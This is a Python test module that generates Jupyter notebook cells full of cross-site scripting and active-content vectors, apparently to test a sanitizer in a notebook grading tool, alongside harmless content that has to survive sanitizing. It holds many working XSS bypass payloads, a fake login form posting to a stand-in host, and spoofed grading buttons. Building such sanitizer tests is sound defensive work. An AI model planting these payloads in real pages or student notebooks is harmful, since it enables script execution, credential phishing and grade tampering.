"""Student work with active content: each vector tries to run, load or cover something."""

from __future__ import annotations

import base64
from collections.abc import Iterator

from nbformat import NotebookNode
from nbformat.v4 import new_code_cell, new_markdown_cell, new_output, new_raw_cell

RUN = "window.ran=1"
FAR = "https://far.example/x"
PIXEL = base64.b64encode(b"\x89PNG\r\n\x1a\n").decode()
DRAWING = f'<svg xmlns="http://www.w3.org/2000/svg"><script>{RUN}</script></svg>'
PAGE = base64.b64encode(f"<script>{RUN}</script>".encode()).decode()

# Each is tried as HTML output, as Markdown output and in a written answer.
HTML = {
    "script": f"<script>{RUN}</script>",
    "script in capitals": f"<ScRiPt >{RUN}</sCrIpT >",
    "script split by a script": f"<scr<script>x</script>ipt>{RUN}</scr<script>x</script>ipt>",
    "script from afar": f'<script src="{FAR}"></script>',
    "script without an end": f"<script>{RUN}//",
    "module script": f'<script type="module">{RUN}</script>',
    "image with onerror": f'<img src=x onerror="{RUN}">',
    "image with a slash for a blank": f"<img/src=x/onerror={RUN}>",
    "image with a line break": f"<img\nsrc=x\nonerror\n=\n{RUN}>",
    "image in backticks": f"<img src=`x` onerror=`{RUN}`>",
    "image without an end": f'<img src=x onerror="{RUN}" ',
    "drawing with onload": f'<svg onload="{RUN}"></svg>',
    "drawing with a script": f"<svg><script>{RUN}</script></svg>",
    "drawing that is animated": f'<svg><animate onbegin="{RUN}" attributeName=x dur=1s></svg>',
    "drawing with a link": f'<svg><a xlink:href="javascript:{RUN}"><text y=9>x</text></a></svg>',
    "drawing with foreign content": f"<svg><foreignObject><iframe onload={RUN}></iframe></svg>",
    "formula with a link": f'<math><mtext href="javascript:{RUN}">x</mtext></math>',
    "nested parsers": f"<math><mtext><table><mglyph><style><img src=x onerror={RUN}></style>",
    "noscript": f'<noscript><p title="</noscript><img src=x onerror={RUN}>"></noscript>',
    "template": f"<template><script>{RUN}</script></template>",
    "comment that ends early": f"<!--><img src=x onerror={RUN}>-->",
    "conditional note": f"<!--[if x]><script>{RUN}</script><![endif]--><img src=x onerror={RUN}>",
    "link to javascript": f'<a href="javascript:{RUN}">read on</a>',
    "link to javascript in entities": f'<a href="&#106;avascript&colon;{RUN}">read on</a>',
    "link to javascript with a tab": f'<a href="java\tscript:{RUN}">read on</a>',
    "link to javascript after a control": f'<a href="\x01javascript:{RUN}">read on</a>',
    "link to vbscript": '<a href="vbscript:msgbox(1)">read on</a>',
    "link to a data page": f'<a href="data:text/html;base64,{PAGE}">read on</a>',
    "link to the formgrader": '<a href="/formgrader/api/grades">read on</a>',
    "image map": f'<map name=m><area shape=rect coords=0,0,999,999 href="javascript:{RUN}"></map>',
    "frame": f'<iframe src="javascript:{RUN}"></iframe>',
    "frame with its own page": f'<iframe srcdoc="<script>{RUN}</script>"></iframe>',
    "frame from afar": f'<iframe src="{FAR}"></iframe>',
    "object": f'<object data="data:text/html;base64,{PAGE}"></object>',
    "embedded page": f'<embed src="data:text/html;base64,{PAGE}">',
    "applet": '<applet code="x.class"></applet>',
    "form": f'<form action="{FAR}"><input name=password><button>Log in</button></form>',
    "button of a form": f'<button formaction="javascript:{RUN}">Log in</button>',
    "field with autofocus": f"<input autofocus onfocus={RUN}>",
    "field that looks like a score": '<input class="score" id="why_streaming" value="9">',
    "text area": f"<textarea autofocus onfocus={RUN}></textarea>",
    "selection": f"<select autofocus onfocus={RUN}></select>",
    "text that can be edited": f"<p contenteditable autofocus onfocus={RUN}>x</p>",
    "body": f"<body onload={RUN}>",
    "base": f'<base href="{FAR}">',
    "refresh": f'<meta http-equiv="refresh" content="0;url={FAR}">',
    "style sheet from afar": f'<link rel="stylesheet" href="{FAR}">',
    "style that imports": f'<style>@import "{FAR}";</style>',
    "style that hides the page": "<style>body { display: none }</style>",
    "overlay": '<div style="position:fixed;top:0;left:0;width:100%;height:100%">Log in</div>',
    "overlay by a margin": '<div style="margin-top:-9999px;z-index:9">Log in</div>',
    "style that loads": f'<p style="background:url({FAR})">x</p>',
    "style that is a script": f'<p style="width:expression({RUN})">x</p>',
    "image from afar": f'<img src="{FAR}">',
    "image that logs out": '<img src="/logout">',
    "images from afar by size": f'<img srcset="{FAR} 1x">',
    "video": f'<video src="{FAR}" onerror={RUN} autoplay></video>',
    "audio": f'<audio src="{FAR}" onerror={RUN} autoplay></audio>',
    "video with a source": f"<video><source onerror={RUN} src=x></video>",
    "details": f"<details open ontoggle={RUN}>x</details>",
    "marquee": f"<marquee onstart={RUN}>x</marquee>",
    "animated by a class": f'<p style="animation-name:x" onanimationstart={RUN}>x</p>',
    "pointer": f"<p onpointerover={RUN}>x</p>",
    "formgrader button": '<span class="full-credit btn">Full credit</span>',
    "name of a field": '<p id="why_streaming">x</p>',
    "dialog": f"<dialog open><form action={FAR}><input></form></dialog>",
    "popover": f"<button popovertarget=p>x</button><p popover id=p onbeforetoggle={RUN}>x</p>",
    "frames": f'<frameset onload="{RUN}"><frame src="{FAR}"></frameset>',
    "portal": f'<portal src="{FAR}"></portal>',
    "byte order mark": f"\ufeff<script>{RUN}</script>",
    "null in a tag": f"<scr\0ipt>{RUN}</scr\0ipt><img src=x\0 onerror\0={RUN} onerror={RUN}>",
}
# Each is a Markdown cell, or a Markdown output.
MARKDOWN = {
    "link": f"[read on](javascript:{RUN})",
    "link in entities": f"[read on](&#106;avascript:{RUN})",
    "link with a title": f"[read on](x \"' onmouseover={RUN} '\")",
    "link in angle brackets": f"<javascript:{RUN}>",
    "reference": f"[read on][x]\n\n[x]: javascript:{RUN}",
    "image from afar": f"![x]({FAR})",
    "image with a handler": f'![x" onerror="{RUN}](x)',
    "diagram": f'```mermaid\ngraph TD; A[<img src=x onerror="{RUN}">]\n```',
    "code in a language": f'```"><script>{RUN}</script>\nx\n```',
    "heading": f"# <img src=x onerror={RUN}>",
    "formula": f"$x<img src=x onerror={RUN}>$",
    "environment": f"\\begin{{align}}</p><script>{RUN}</script>\\end{{align}}",
    "table": f"|x|\n|-|\n|<img src=x onerror={RUN}>|",
    "deep quotation": ">" * 3000 + f" <script>{RUN}</script>",
}
# Output types that a browser would run, or that name resources to load.
KINDS: dict[str, object] = {
    "application/javascript": RUN,
    "text/javascript": RUN,
    "text/vnd.mermaid": f'graph TD; A["<img src=x onerror={RUN}>"]',
    "application/vnd.jupyter.widget-view+json": {"model_id": "x", "version_major": 2},
    "application/vnd.plotly.v1+json": {"data": [], "layout": {"title": f"<script>{RUN}</script>"}},
    "application/pdf": PAGE,
    "image/svg+xml": DRAWING,
    "image/png": f'x" onerror="{RUN}',
    "text/latex": f"$x$<script>{RUN}</script>",
    "text/plain": f"<script>{RUN}</script>",
}


def vectors() -> Iterator[tuple[str, NotebookNode]]:
    """Return every vector as a cell, by name."""
    for name, text in HTML.items():
        yield f"output: {name}", _shown({"text/html": text})
        yield f"answer: {name}", new_markdown_cell(text)
    for name, text in MARKDOWN.items():
        yield f"Markdown: {name}", new_markdown_cell(text)
        yield f"Markdown output: {name}", _shown({"text/markdown": text})
    for kind, value in KINDS.items():
        yield f"kind: {kind}", _shown({kind: value})
    yield from _in_metadata()


def _shown(data: dict[str, object], **metadata: object) -> NotebookNode:
    shown = new_output("display_data", data, metadata=metadata)
    return new_code_cell("show()", outputs=[shown], execution_count=1)


def _in_metadata() -> Iterator[tuple[str, NotebookNode]]:
    attack = f'"><script>{RUN}</script>'
    sizes = {"image/png": {"width": f"1 onerror={RUN}", "height": f"1 onload={RUN}"}}
    yield "metadata: size of a picture", _shown({"image/png": PIXEL}, **sizes)
    files = {"filenames": {"image/png": FAR}}
    yield "metadata: file of a picture", _shown({"image/png": PIXEL}, **files)
    isolated = {"text/html": {"isolated": True}}
    yield "metadata: isolated page", _shown({"text/html": f"<script>{RUN}</script>"}, **isolated)
    for name in ("alt", "magics_language", "raw_mimetype"):
        cell = new_code_cell("%%html\nx", metadata={name: attack})
        yield f"metadata: {name}", cell
    yield "metadata: tags", new_code_cell("x", metadata={"tags": [attack]})
    pages = new_raw_cell(f"<script>{RUN}</script>", metadata={"raw_mimetype": "text/html"})
    yield "raw page", pages
    yield "source", new_code_cell(f"</pre><script>{RUN}</script>")
    printed = new_output("stream", name="stdout", text=f"</pre><script>{RUN}</script>\x1b]8;;x\x07")
    yield "printed", new_code_cell("x", outputs=[printed])
    trace = [f"<script>{RUN}</script>"]
    failed = new_output("error", ename=attack, evalue=attack, traceback=trace)
    yield "traceback", new_code_cell("x", outputs=[failed])
    drawing = base64.b64encode(DRAWING.encode()).decode()
    attached = new_markdown_cell("![x](attachment:x.svg)")
    attached["attachments"] = {"x.svg": {"image/svg+xml": drawing}}
    yield "attachment: drawing", attached
    page = new_markdown_cell("![x](attachment:x)")
    page["attachments"] = {"x": {f'text/html" onerror="{RUN}': PAGE}}
    yield "attachment: page", page


def harmless() -> list[NotebookNode]:
    """Return content that must be kept: tables, pictures, formulas, code, formatted text."""
    table = (
        "<div>\n<style scoped>.dataframe tbody tr th {vertical-align: top;}</style>\n"
        '<table border="1" class="dataframe"><thead><tr style="text-align: right;"><th></th>'
        '<th>accuracy</th></tr></thead><tbody><tr><th>0</th><td colspan="2">0.93</td></tr>'
        "</tbody></table></div>"
    )
    picture = {"image/png": {"width": 640, "height": 480, "alt": "Loss per epoch"}}
    attached = new_markdown_cell("My drawing: ![a sketch](attachment:s.png)")
    attached["attachments"] = {"s.png": {"image/png": PIXEL}}
    return [
        _shown({"text/html": table, "text/plain": "   accuracy\n0  0.93"}),
        _shown({"image/png": PIXEL, "text/plain": "<Figure>"}, **picture),
        _shown({"image/svg+xml": "<svg xmlns='http://www.w3.org/2000/svg'><path d='M0 0'/></svg>"}),
        _shown({"text/latex": "$\\sigma < 1$"}),
        attached,
        new_markdown_cell(
            "**Because** $a < b$ and `x > 1`, see [the paper](https://arxiv.org/abs/1512.03385).\n\n"
            "> quoted\n\n1. one\n2. two\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\n"
            "```python\nfor x in range(3):\n    print(x < 2)\n```\n\n"
            "$$\\sum_i x_i & y$$\n\nA < B & C"
        ),
        new_code_cell("if a < b and c:\n    print('<b>')"),
    ]
